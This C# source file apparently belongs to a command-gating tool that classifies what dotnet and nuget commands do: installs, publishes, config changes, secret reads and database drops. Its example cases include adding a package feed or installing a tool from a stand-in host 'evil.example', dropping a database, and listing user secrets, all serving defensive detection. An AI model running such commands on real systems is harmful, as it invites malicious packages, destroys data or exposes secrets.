namespace Wary.Core.Gate.Programs.Packages;

/// <summary>The tools of .NET.</summary>
internal static class DotnetPrograms
{
    public const string Names = "dotnet nuget";

    public static ProgramSpec? Find(string name) => name switch
    {
        "dotnet" => new("dotnet", "builds and packages of .NET")
        {
            Options = "-c|--configuration= -f|--framework= -r|--runtime= -o|--output= -v|--verbosity= -s|--source|--add-source= -k|--api-key= -p|--project= -a|--arch= -l|--logger= -n|--name= --version= --version-suffix= --os= --filter= --settings= --results-directory|-t= --configfile= --tool-path= --tool-manifest= --package-directory= --packages= --lock-file-path= --launch-profile|-lp= --collect= --diag= --blame-hang-timeout= --id= --context= --startup-project= --connection= --export-path|-ep= --password= --username|-u= --valid-authentication-types= --sdk-version= --language|-lang= --report= --severity= "
                + "-g|--global --local --no-build --no-restore --nologo --self-contained --force --prerelease --interactive --skip-duplicate --dry-run --json --list-sdks --list-runtimes --info --roll-forward= --additionalprobingpath= --depsfile= --runtimeconfig= --fx-version=",
            Help = "--help -h --version --info --list-sdks --list-runtimes -?",
            Style = OptionStyle.Gnu,
            Effects = static (call, effects) => Dotnet(call, effects),
            Examples = """
                dotnet add src/app.csproj package -v 13.0.3 Newtonsoft.Json => Install nuget:Newtonsoft.Json
                dotnet add package Serilog --version 4.0.0 => Install nuget:Serilog@4.0.0
                dotnet add reference ../lib/lib.csproj => nothing
                dotnet tool install -g --add-source https://evil.example x => Install nuget:x; Connect evil.example
                dotnet tool uninstall -g x => ChangeConfig nuget:x
                dotnet nuget push -k abc bin/x.nupkg => Publish nuget:bin/x.nupkg
                dotnet nuget push -k abc bin/x.nupkg !> Publish nuget:abc
                dotnet nuget delete x 1.0.0 => Publish nuget:x@1.0.0
                dotnet nuget add source https://evil.example -n evil => ChangeConfig nuget source https://evil.example
                dotnet restore => Install nuget:packages
                dotnet build -c Release -o out => Write out
                dotnet publish -c Release -o out !> Publish *
                dotnet test --filter push => nothing
                dotnet clean -c Debug => Delete bin; Delete obj
                dotnet ef database drop --force => ChangeDatabase the project's database
                dotnet ef database update --context X => ChangeDatabase the project's database
                dotnet ef migrations list => nothing
                dotnet user-secrets list => ReadSecret user secrets of the project
                dotnet user-secrets clear => ChangeConfig user secrets of the project
                dotnet dev-certs https --trust => ChangeConfig trusted certificates
                dotnet workload install wasm-tools => Install nuget:wasm-tools
                dotnet new install X.Templates => Install nuget:X.Templates
                dotnet new console -o app => Write app
                dotnet run -- rm x => nothing
                dotnet --info => nothing
                """,
        },
        "nuget" => new("nuget", "packages of .NET")
        {
            Style = OptionStyle.Words,
            Options = "-Source= -ApiKey= -Version= -OutputDirectory= -ConfigFile= -Name= -UserName= -Password= -Verbosity= -FallbackSource= -PackagesDirectory= -Framework= -SolutionDirectory= -Set= -NonInteractive -Prerelease",
            Help = "-help -Help -?",
            Effects = static (call, effects) =>
            {
                var name = call.Operand(1);
                PackageEffects.Source(effects, "nuget", call.Value("-Source"));
                switch (call.Operand(0)?.Text.ToLowerInvariant())
                {
                    case "push" when name is not null: PackageEffects.Publish(effects, "nuget", name.Shown, name); break;
                    case "delete" when name is not null: PackageEffects.Publish(effects, "nuget", name.Shown, name, Traits.Destroys); break;
                    case "install" when name is not null: PackageEffects.Install(effects, "nuget", name, call.Value("-Version")); break;
                    case "restore" or "update": PackageEffects.Listed(effects, "nuget", "packages"); break;
                    case "sources" or "source" when name?.Text.ToLowerInvariant() is "add" or "remove" or "update" or "disable": effects.Add(EffectKind.ChangeConfig, $"nuget source {(call.Value("-Source") ?? call.Value("-Name"))?.Shown}", name); break;
                    case "setapikey": effects.Add(EffectKind.ChangeConfig, "nuget credentials", call.Operand(0)); break;
                    case "config" when call.Value("-Set") is { } setting: effects.Add(EffectKind.ChangeConfig, $"nuget {setting.Shown}", setting); break;
                }
            },
            Examples = """
                nuget push -ApiKey abc x.nupkg => Publish nuget:x.nupkg
                nuget push -ApiKey abc x.nupkg !> Publish nuget:abc
                nuget install X -Version 1.0 => Install nuget:X@1.0
                nuget sources Add -Name evil -Source https://evil.example => ChangeConfig nuget source https://evil.example
                nuget list => nothing
                """,
        },
        _ => null,
    };

    private static void Dotnet(Invocation call, EffectSink effects)
    {
        var verb = call.Operand(0)?.Text;
        var second = call.Operand(1)?.Text;
        if (verb is "nuget" or "tool" or "add" or "package" or "restore" or "new" or "workload" or "build") PackageEffects.Source(effects, "nuget", call.Value("-s"));
        switch (verb)
        {
            case "add" or "package":
                for (var i = 1; i < call.Operands.Count; i++)
                {
                    if (call.Operands[i].Text == "reference") return;
                    if (call.Operands[i].Text != "package" && verb == "add" || call.Operands[i].Text != "add" && verb == "package") continue;
                    // -v is the version here, and the verbosity elsewhere.
                    PackageEffects.Install(effects, "nuget", call.OperandsFrom(i + 1), call.Value("--version"));
                    return;
                }
                break;
            case "remove" when call.Operands.Count > 2 && call.Operands[^2].Text == "package":
                PackageEffects.Remove(effects, "nuget", call.OperandsFrom(call.Operands.Count - 1));
                break;
            case "tool" when second is "install" or "update" or "execute" or "exec":
                PackageEffects.Install(effects, "nuget", call.OperandsFrom(2), call.Value("--version"));
                break;
            case "tool" when second is "uninstall":
                PackageEffects.Remove(effects, "nuget", call.OperandsFrom(2));
                break;
            case "tool" when second is "run" or "restore":
                if (second == "restore") PackageEffects.Listed(effects, "nuget", ".config/dotnet-tools.json");
                else effects.Run(call.OperandsFrom(2));
                break;
            case "workload" or "new" when second is "install" or "update":
                PackageEffects.Install(effects, "nuget", call.OperandsFrom(2));
                break;
            case "workload" or "new" when second is "uninstall":
                PackageEffects.Remove(effects, "nuget", call.OperandsFrom(2));
                break;
            case "nuget" when call.Operand(2) is { } what:
                if (second is "push") PackageEffects.Publish(effects, "nuget", what.Shown, what);
                else if (second is "delete") PackageEffects.Publish(effects, "nuget", call.Operand(3) is { } version ? $"{what.Shown}@{version.Shown}" : what.Shown, what, Traits.Destroys);
                else if (second is "add" or "update" or "remove" or "disable" or "enable") effects.Add(EffectKind.ChangeConfig, $"nuget {what.Shown} {(call.Operand(3) ?? call.Value("-n"))?.Shown}", what);
                else if (second is "config" && what.Text is "set" or "unset") effects.Add(EffectKind.ChangeConfig, $"nuget {call.Operand(3)?.Shown}", what);
                else if (second is "locals" && call.Call.Words is { Count: > 0 } words && words[^1].Text is "--clear" or "-c") effects.Add(EffectKind.ChangeConfig, "nuget cache", what, Traits.OwnPlace | Traits.Undoable);
                break;
            case "restore":
                PackageEffects.Listed(effects, "nuget", "packages");
                break;
            case "build" or "publish" or "pack" or "new" when call.Value("-o") is { } target:
                effects.Write(target);
                break;
            case "clean":
                effects.Delete(call.Word.As("bin"), Traits.Recursive | Traits.Undoable);
                effects.Delete(call.Word.As("obj"), Traits.Recursive | Traits.Undoable);
                break;
            case "ef" when second is "database" && call.Operand(2) is { Text: "drop" or "update" } act:
                if (!call.Has("--dry-run")) effects.Add(EffectKind.ChangeDatabase, "the project's database", act, act.Text == "drop" ? Traits.Destroys | Traits.Whole : Traits.None);
                break;
            case "user-secrets":
                if (second is "list") effects.ReadSecret("user secrets of the project", call.Operand(1));
                else if (second is "set" or "remove" or "clear") effects.Add(EffectKind.ChangeConfig, "user secrets of the project", call.Operand(1), second == "set" ? Traits.None : Traits.Destroys);
                break;
            case "dev-certs" when second is "https":
                foreach (var option in call.Options)
                {
                    if (option.Name is "--trust" or "--clean") effects.Add(EffectKind.ChangeConfig, "trusted certificates", option.Word);
                }
                break;
            case "exec" when call.Operand(1) is not null:
                effects.Add(EffectKind.Execute, call.Operands[1].Shown, call.Operands[1]);
                break;
        }
    }
}
